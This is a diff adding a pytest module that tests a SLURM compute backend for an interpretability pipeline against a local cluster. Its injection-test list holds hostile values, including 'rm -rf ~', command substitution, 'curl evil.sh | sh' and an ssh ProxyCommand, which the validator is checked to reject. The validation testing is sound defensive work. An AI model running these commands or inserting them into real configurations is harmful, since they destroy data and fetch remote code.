@@ -1,0 +1,312 @@
+"""SlurmCompute against a real one-node SLURM cluster (scripts/slurm-local.sh), no mocks.
+
+The module starts the cluster (without accounting) and stops it at the end; everything is skipped, with the script's reason, only when it cannot start (not
+root, no apt). Tiny SAE step counts keep it short.
+"""
+
+from __future__ import annotations
+
+import os
+import re
+import shutil
+import signal
+import subprocess
+import sys
+import time
+from pathlib import Path
+
+import dagster as dg
+import pytest
+from helpers import PROJECT_ROOT, seed_tiny_model, write_config
+
+from interp_assets.config import load_config
+from interp_assets.definitions import build_definitions
+from interp_assets.worker import activations_relpath
+from resources.compute import LocalCompute
+from resources.slurm import SlurmCompute, SlurmConfigError
+
+pytestmark = [pytest.mark.slurm, pytest.mark.slow]
+
+SCRIPT = PROJECT_ROOT / "scripts" / "slurm-local.sh"
+# Short SAE runs: the point here is the plumbing, not the quality bar (tested in test_pipeline).
+TINY_SAE = {"sae": {"steps": 40, "checkpoint_every": 20, "log_every": 10, "lr_warmup_steps": 5, "lr_decay_steps": 10,
+                    "l1_warmup_steps": 10, "dead_window_steps": 20, "eval_vectors": 512, "ce_eval_texts": 8,
+                    "min_explained_variance": 0.0, "max_dead_fraction": 1.0}}
+
+
+def cluster(*flags: str) -> None:
+    """Start the local cluster in this mode (a no-op when it already runs so)."""
+    done = subprocess.run(["bash", str(SCRIPT), "start", *flags], capture_output=True, text=True, timeout=600)
+    if done.returncode != 0:
+        pytest.skip(f"the local SLURM cluster did not start ({' '.join(flags) or 'plain'}): {done.stderr.strip()[-800:]}")
+
+
+@pytest.fixture(scope="module", autouse=True)
+def _cluster_lifetime():  # noqa: ANN202
+    yield
+    subprocess.run(["bash", str(SCRIPT), "stop"], capture_output=True, timeout=120)
+
+
+def jobs(*ids: str) -> list[dict[str, str]]:
+    """Every job the controller knows (finished ones included), or just ``ids``."""
+    argv = ["squeue", "-h", "-t", "all", "-o", "%A|%F|%K|%j|%T"]
+    if ids:
+        argv += ["-j", ",".join(ids)]
+    out = subprocess.run(argv, capture_output=True, text=True, timeout=60).stdout
+    keys = ("job_id", "array_job_id", "array_index", "name", "state")
+    return [dict(zip(keys, line.split("|"), strict=True)) for line in out.split()]
+
+
+def run_log(instance: dg.DagsterInstance, run_id: str) -> str:
+    return "\n".join(entry.user_message for entry in instance.all_logs(run_id))
+
+
+def failure_text(result: dg.ExecuteInProcessResult) -> str:
+    failure = next(e for e in result.all_events if e.event_type_value == "STEP_FAILURE")
+    return failure.event_specific_data.error.to_string()
+
+
+def layer_range(first: str, last: str) -> dict[str, str]:
+    return {"dagster/asset_partition_range_start": first, "dagster/asset_partition_range_end": last}
+
+
+def materialize(config_path: Path, selection: list[str], compute: object, instance: dg.DagsterInstance,
+                **kwargs: object) -> dg.ExecuteInProcessResult:
+    defs = build_definitions(config_path)
+    return dg.materialize(list(defs.assets), selection=selection, instance=instance,
+                          resources={"compute": compute}, raise_on_error=False, **kwargs)
+
+
+def slurm(tmp: Path, **settings: object) -> SlurmCompute:
+    return SlurmCompute(log_dir=str(tmp / "slurm-logs"), poll_seconds=0.5, max_poll_seconds=3.0, **settings)
+
+
+@pytest.fixture(scope="module")
+def studies(tmp_path_factory: pytest.TempPathFactory, tiny_model_storage: Path) -> dict[str, object]:
+    """Two storage roots with the tiny model; prompts -> baselines -> activations materialized in
+    one with LocalCompute, in the other with SlurmCompute (the later tests build on the latter)."""
+    cluster()
+    root = tmp_path_factory.mktemp("slurm-study")
+    paths: dict[str, object] = {}
+    for name in ("local", "slurm"):
+        (root / name).mkdir()
+        paths[name] = write_config(root / name, TINY_SAE)
+        seed_tiny_model(load_config(paths[name]).storage.root, tiny_model_storage)
+    config = load_config(paths["slurm"])
+    layers = layer_range(config.layer_keys[0], config.layer_keys[-1])
+    compute = slurm(root, overrides={"activations": {"mem": "3G"}})
+    with dg.instance_for_test() as instance:
+        for name, backend in (("local", LocalCompute()), ("slurm", compute)):
+            for behaviour in config.prompts.behaviours:
+                result = materialize(paths[name], ["prompts", "baselines"], backend, instance, partition_key=behaviour)
+                assert result.success, failure_text(result)
+            result = materialize(paths[name], ["activations"], backend, instance, tags=layers)
+            assert result.success, failure_text(result)
+        paths["activations_log"] = run_log(instance, result.run_id)
+        paths["activations_md"] = result.asset_materializations_for_node("activations")[0].metadata
+        paths["jobs"] = jobs()
+    return paths
+
+
+def _tree(root: Path) -> dict[str, bytes]:
+    return {str(p.relative_to(root)): p.read_bytes() for p in sorted(root.rglob("*")) if p.is_file()}
+
+
+# ---- 1. same bytes as LocalCompute; jobs really on the cluster ---------------------------------
+
+
+def test_prompts_baselines_activations_give_the_same_bytes_as_local(studies: dict) -> None:
+    log, md, seen = studies["activations_log"], studies["activations_md"], studies["jobs"]
+    # Real jobs: the controller saw one per baselines partition and ONE for the activations range.
+    assert sorted(j["name"] for j in seen) == ["ia-activations", "ia-baselines", "ia-baselines"], seen
+    assert all(j["state"] == "COMPLETED" for j in seen), seen
+    activations_job = next(j for j in seen if j["name"] == "ia-activations")
+    assert md["slurm/job_id"].value == activations_job["job_id"]
+    assert md["slurm/state"].value == "COMPLETED" and md["slurm/node"].value
+    assert md["slurm/status_source"].value == "squeue"  # no accounting on this cluster: the fallback
+    assert md["provenance/compute_backend"].value == "slurm"
+    assert md["provenance/slurm_job_id"].value == activations_job["job_id"]
+    assert "[slurm] submitted activations as job" in log
+    assert "capture: batch" in log  # the worker's Pipes logs arrive through the message file
+    assert "[slurm activations err] interp_assets: job" in log  # the job's log tail, streamed
+    local_root, slurm_root = (Path(load_config(studies[n]).storage.root) for n in ("local", "slurm"))
+    for folder in ("prompts", "baselines", "activations"):
+        local, remote = _tree(local_root / folder), _tree(slurm_root / folder)
+        assert local.keys() == remote.keys() and local, folder
+        different = [name for name in local if local[name] != remote[name]]
+        assert not different, f"{folder}: bytes differ between LocalCompute and SlurmCompute: {different}"
+
+
+# ---- 2. a layer backfill is ONE array job; a failed layer fails the range, the retry skips the rest
+
+
+def test_sae_layer_backfill_is_one_array_job_and_a_retry_reruns_only_the_failed_layer(
+    studies: dict, tmp_path: Path
+) -> None:
+    config = load_config(studies["slurm"])
+    assert len(config.layer_keys) >= 4
+    store_root = Path(config.storage.root)
+    broken = config.layer_keys[2]
+    manifest = store_root / activations_relpath(config, int(broken)) / "manifest.json"
+    manifest.rename(manifest.with_name("manifest.hidden"))  # this layer's worker fails: no activations
+    compute = slurm(tmp_path, array_parallelism=2)
+    layers = layer_range(config.layer_keys[0], config.layer_keys[-1])
+    with dg.instance_for_test() as instance:
+        first = materialize(studies["slurm"], ["saes"], compute, instance, tags=layers)
+        manifest.with_name("manifest.hidden").rename(manifest)
+        array_jobs = {j["array_job_id"] for j in jobs() if j["name"] == "ia-saes"}
+        assert len(array_jobs) == 1, jobs()
+        (first_array,) = array_jobs
+        tasks = jobs(first_array)
+        assert sorted(int(t["array_index"]) for t in tasks) == list(range(len(config.layer_keys)))
+        states = {config.layer_keys[int(t["array_index"])]: t["state"] for t in tasks}
+        assert states == {k: "FAILED" if k == broken else "COMPLETED" for k in config.layer_keys}, states
+        # The failure names the layer and shows its stderr tail (the worker's traceback).
+        assert not first.success
+        text = failure_text(first)
+        assert f"1 of {len(config.layer_keys)} SLURM task(s) of saes failed" in text
+        assert f"saes[{broken}]: SLURM job {first_array}_2 ended FAILED" in text
+        assert "stderr tail" in text and f"layer {broken}: no activations" in text
+
+        retry = materialize(studies["slurm"], ["saes"], compute, instance, tags=layers)
+        assert retry.success, failure_text(retry)
+        log = run_log(instance, retry.run_id)
+        retry_arrays = {j["array_job_id"] for j in jobs() if j["name"] == "ia-saes"} - {first_array}
+        assert len(retry_arrays) == 1
+        # Finished layers were found and skipped; only the failed one trained.
+        skipped = {k for k in config.layer_keys if f"layer {k}: SAE already trained for this config and data, skipped" in log}
+        assert skipped == set(config.layer_keys) - {broken}
+        assert f"layer {broken}: training a standard SAE" in log  # SAELens calls ReLU+L1 "standard"
+        for index, key in enumerate(config.layer_keys):
+            md = instance.fetch_materializations(
+                dg.AssetRecordsFilter(asset_key=dg.AssetKey("saes"), asset_partitions=[key]), limit=1
+            ).records[0].asset_materialization.metadata
+            # SLURM's record of this layer's own array task, next to the worker's per-layer results.
+            assert md["slurm/job_id"].value == f"{next(iter(retry_arrays))}_{index}"
+            assert md["slurm/array_index"].value == index
+            assert md["slurm/state"].value == "COMPLETED"
+            assert md["slurm/node"].value and md["slurm/elapsed"].value
+            assert "explained_variance" in md and md["training_curve"].value.startswith("![")
+        checks = {e.check_name: e for e in retry.get_asset_check_evaluations()}
+        assert {name: e.passed for name, e in checks.items()} == {
+            "explained_variance_above_threshold": True, "dead_fraction_below_bound": True}
+        # The checks saw every layer: the array tasks' materializations were combined into one.
+        by_layer = checks["explained_variance_above_threshold"].metadata["explained_variance_by_layer"].value
+        assert sorted(by_layer) == sorted(config.layer_keys)
+
+
+# ---- 3. bad values and injection attempts ------------------------------------------------------
+
+INJECTIONS = [
+    ("partition", "gpu; rm -rf ~", "partition"),
+    ("partition", "gpu\nrm -rf ~", "partition"),
+    ("account", "$(touch /tmp/pwned)", "account"),
+    ("qos", "normal`id`", "qos"),
+    ("gres", "gpu:1 --wrap=id", "gres"),
+    ("mem", "4G; id", "mem"),
+    ("mem", "lots", "mem"),
+    ("time", "1:00:00 && id", "time"),
+    ("time", "0", "time"),
+    ("cpus", 0, "cpus"),
+    ("array_parallelism", -1, "array_parallelism"),
+    ("module_loads", ["CUDA/12.1; curl evil.sh | sh"], "module_loads[0]"),
+    ("venv", "relative/venv", "venv"),
+    ("venv", "/opt/venv\n; id", "venv"),
+    ("conda_env", "base; id", "conda_env"),
+    ("python", "python3 -c 'import os'", "python"),
+    ("workdir", "$HOME/project", "workdir"),
+    ("log_dir", "/shared/logs/%j", "log_dir"),
+    ("env", {"BAD KEY": "x"}, "env"),
+    ("env", {"OK": "line\nbreak"}, "env.OK"),
+    ("ssh_host", "-oProxyCommand=id", "ssh_host"),
+    ("ssh_host", "login; id", "ssh_host"),
+    ("overrides", {"activations": {"mem": "64G && id"}}, "overrides.activations.mem"),
+    ("overrides", {"saes": {"partition": "a b"}}, "overrides.saes.partition"),
+]
+
+
+@pytest.mark.parametrize(("name", "value", "field"), INJECTIONS, ids=[f"{n}-{i}" for i, (n, _, _) in enumerate(INJECTIONS)])
+def test_bad_values_fail_before_submission_naming_the_field(name: str, value: object, field: str) -> None:
+    settings: dict[str, object] = {name: value}
+    if name == "ssh_host":
+        settings["ssh_user"] = "me"
+    with pytest.raises(SlurmConfigError, match=re.escape(f"SlurmCompute.{field}: ")):
+        SlurmCompute(**settings).check_settings()
+
+
+def test_an_injected_partition_fails_the_run_before_anything_is_submitted(studies: dict, tmp_path: Path) -> None:
+    before = jobs()
+    with dg.instance_for_test() as instance:
+        result = materialize(studies["slurm"], ["baselines"], slurm(tmp_path, partition="gpu; rm -rf ~"), instance,
+                             partition_key="ioi")
+    assert not result.success
+    assert "SlurmCompute.partition: 'gpu; rm -rf ~' is not allowed" in failure_text(result)
+    assert jobs() == before
+
+
+# ---- 4. cancelling from Dagster ----------------------------------------------------------------
+
+CANCEL_DRIVER = """
+import sys, dagster as dg
+from interp_assets.definitions import build_definitions
+from resources.slurm import SlurmCompute
+defs = build_definitions(sys.argv[1])
+with dg.instance_for_test() as instance:
+    dg.materialize(list(defs.assets), selection=["saes"], partition_key=sys.argv[3], instance=instance,
+                   resources={"compute": SlurmCompute(log_dir=sys.argv[2], poll_seconds=0.5, max_poll_seconds=2)},
+                   raise_on_error=False)
+"""
+
+
+def _copy_study(config_path: Path, tmp: Path, updates: dict) -> Path:
+    source = Path(load_config(config_path).storage.root)
+    for folder in ("models", "activations"):
+        shutil.copytree(source / folder, tmp / "storage" / folder)
+    return write_config(tmp, {**TINY_SAE, **updates})
+
+
+def test_interrupting_the_step_cancels_its_job(studies: dict, tmp_path: Path) -> None:
+    """Dagster terminates a run by interrupting its step (SIGINT): the job must leave the queue."""
+    config_path = _copy_study(studies["slurm"], tmp_path, {"sae": {**TINY_SAE["sae"], "steps": 1_000_000}})
+    driver = tmp_path / "driver.py"
+    driver.write_text(CANCEL_DRIVER)
+    before = {j["job_id"] for j in jobs()}
+    env = {**os.environ, "PYTHONPATH": str(PROJECT_ROOT)}
+    process = subprocess.Popen([sys.executable, str(driver), str(config_path), str(tmp_path / "logs"), "1"],
+                               env=env, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
+    try:
+        deadline, job = time.monotonic() + 180, None
+        while time.monotonic() < deadline and job is None and process.poll() is None:
+            job = next((j for j in jobs() if j["job_id"] not in before and j["state"] == "RUNNING"), None)
+            time.sleep(0.5)
+        assert job is not None, "the job never ran"
+        time.sleep(3)  # let the worker get going
+        process.send_signal(signal.SIGINT)
+        output, _ = process.communicate(timeout=120)
+    finally:
+        if process.poll() is None:
+            process.kill()
+    assert "scancel" in output, output[-3000:]
+    (after,) = jobs(job["job_id"])
+    assert after["state"] == "CANCELLED"
+    queue = subprocess.run(["squeue", "-h", "-o", "%A"], capture_output=True, text=True).stdout.split()
+    assert job["job_id"] not in queue
+
+
+def test_the_cd3_profile_loads_and_switching_backend_changes_no_code_version(monkeypatch: pytest.MonkeyPatch) -> None:
+    def code_versions(defs: dg.Definitions) -> dict:
+        return {key: version for a in defs.assets for key, version in a.code_versions_by_key.items()}
+
+    local = code_versions(build_definitions())
+    monkeypatch.setenv("INTERP_ASSETS_COMPUTE", "slurm")
+    monkeypatch.setenv("INTERP_ASSETS_SLURM_PROFILE", "configs/slurm-cd3.yaml")
+    defs = build_definitions()
+    compute = defs.resources["compute"]
+    assert isinstance(compute, SlurmCompute)
+    assert compute.job_settings("activations")["mem"] == "96G" and compute.job_settings("saes")["gres"] == "gpu:1"
+    assert compute.job_settings("language_model")["gres"] == ""
+    assert code_versions(defs) == local and len(local) >= 6
+    bad = PROJECT_ROOT / "configs" / "slurm-cd3.yaml"
+    monkeypatch.setenv("INTERP_ASSETS_SLURM_PROFILE", str(bad.with_name("no-such-profile.yaml")))
+    with pytest.raises(SlurmConfigError, match="cannot read the SLURM profile"):
+        build_definitions()
